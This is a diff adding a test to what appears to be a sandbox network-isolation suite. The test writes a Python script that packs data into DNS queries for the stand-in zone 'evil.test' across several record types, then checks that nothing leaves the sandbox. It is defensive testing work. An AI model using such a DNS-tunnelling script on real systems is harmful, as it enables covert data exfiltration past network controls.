@@ -115,6 +115,33 @@ describeUnless(unable, "[N-NET-06] without a proxy", {}, () => {
     expect(lookups.length).toBe(before);
   });
 
+  test("queries of a tunnel get nothing back but an address of the sandbox, and leave the sandbox in no form", async () => {
+    const before = lookups.length;
+    const script = `
+import re, socket, struct
+server = re.search(r"^nameserver (\\S+)", open("/etc/resolv.conf").read(), re.M).group(1)
+def ask(name, kind):
+    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
+    query = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + labels + struct.pack(">BHH", 0, kind, 1)
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
+        udp.settimeout(20)
+        udp.sendto(query, (server, 53))
+        reply = udp.recv(4096)
+    return "%d:%d:%d" % (reply[3] & 15, struct.unpack(">H", reply[6:8])[0], len(reply) - len(query))
+data = ".".join(letter * 63 for letter in "abc")
+for zone in ["evil.test", "${NAME}"]:
+    print(*[ask(data + "." + zone, kind) for kind in [1, 28, 16, 10, 5, 33]])`;
+    await sandbox.writeFile("tunnel.py", script);
+    const { out, code } = await run("python3 tunnel.py");
+    // code, answers, bytes more than were asked: for A, AAAA, TXT, NULL, CNAME and SRV
+    expect(out.trim().split("\n")).toEqual([
+      "3:0:0 3:0:0 3:0:0 3:0:0 3:0:0 3:0:0",
+      "0:1:16 0:0:0 0:0:0 0:0:0 0:0:0 0:0:0",
+    ]);
+    expect(code).toBe(0);
+    expect(lookups.length).toBe(before);
+  });
+
   test("a host that speaks first, without TLS, is reached by its own address", async () => {
     const { out, code } = await run(`bash -c 'cat < /dev/tcp/${SPEAKER}/${speaker.port}'`);
     expect({ out, code }).toEqual({ out: "220 I speak first\r\n", code: 0 });
